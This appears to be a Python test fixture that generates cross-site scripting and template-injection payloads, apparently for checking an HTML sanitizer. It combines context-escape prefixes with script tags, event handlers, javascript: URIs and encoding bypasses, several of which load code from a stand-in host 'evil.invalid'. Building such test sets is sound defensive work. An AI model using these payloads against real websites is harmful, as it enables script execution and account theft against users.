"""Texts that try to run: ways into markup (how a value could be left) × things that run once one is in.

Each calls ``hit()`` or asks a foreign host, ``OUTSIDE``, for something.
"""

from itertools import product

OUTSIDE = "evil.invalid"

# Ways out of where a value may stand: a text, an attribute, a comment, a script, a title, a style, CDATA.
WAYS_OUT = (
    "", '">', "'>", "-->", "</title>", "</script>", "</textarea>", "</style>", "]]>", "`>", "\\\">",
    "</p></div></main>", "&quot;>", "<!--", "{{", "%22%3E",
)  # fmt: skip

RUNNING = (
    "<script>hit()</script>",
    "<ScRiPt >hit()</sCrIpT >",
    f"<script src=//{OUTSIDE}/a.js></script>",
    "<script\n>hit()//",
    "<<script>hit();//<</script>",
    "<img src=x onerror=hit()>",
    "<img/src=`x`/onerror=hit()>",
    '<img src="x" onerror="&#104;it()">',
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit()><text y=20>x</text></a></svg>",
    "<body onload=hit()>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    f"<iframe src=//{OUTSIDE}/></iframe>",
    "<object data=javascript:hit()></object>",
    f"<embed src=//{OUTSIDE}/x>",
    f"<link rel=stylesheet href=//{OUTSIDE}/x.css>",
    f"<meta http-equiv=refresh content='0;url=//{OUTSIDE}/'>",
    f"<base href=//{OUTSIDE}/>",
    f"<style>@import '//{OUTSIDE}/x.css'</style>",
    f'<div style="background:url(//{OUTSIDE}/x)">x</div>',
    "<details open ontoggle=hit()><summary>x</summary></details>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()></select>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<marquee onstart=hit()>x</marquee>",
    "<math><mtext><mglyph><style><img src=x onerror=hit()></style></mglyph></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>",
    "<template><script>hit()</script></template><img src=x onerror=hit()>",
    "<form><button formaction=javascript:hit()>x</button></form>",
    "<a href='javascript:hit()' autofocus>x</a>",
    f"<img src=//{OUTSIDE}/pixel.gif>",
    f"<video poster=//{OUTSIDE}/p.jpg></video>",
    f"<picture><source srcset=//{OUTSIDE}/s.jpg><img></picture>",
    "<x onpointerrawupdate=hit() onclick=hit()>x</x>",
)
IN_ATTRIBUTES = (
    '" onmouseover="hit()" x="',
    "' autofocus onfocus='hit()' x='",
    '" autofocus onfocus=hit() style="position:fixed;inset:0',
    "javascript:hit()",
    " javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\tscript:hit()",
    "java\nscript:hit()",
    "\x01javascript:hit()",
    "data:text/html,<script>hit()</script>",
    "data:image/svg+xml,<svg onload=hit()>",
    "vbscript:hit()",
    "&#106;avascript:hit()",
    f"//{OUTSIDE}/x",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "＜script＞hit()＜/script＞",
    "{{constructor.constructor('hit()')()}}",
    "${hit()}",
    "{% include 'x' %}",
    "<?php hit() ?>",
    "<![CDATA[<script>hit()</script>]]>",
    "%3Cscript%3Ehit()%3C/script%3E",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "<scr\x00ipt>hit()</scr\x00ipt>",
    "<\u200bscript>hit()</script>",
    "\u202e<script>hit()</script>",
)
# Every thing that runs as it is and after every way out of an attribute or text; the other ways with some.
PAYLOADS = (
    *RUNNING,
    *IN_ATTRIBUTES,
    *(out + what for out, what in product(WAYS_OUT[1:3], RUNNING)),
    *(out + what for out, what in product(WAYS_OUT[3:], RUNNING[:9:2])),
)
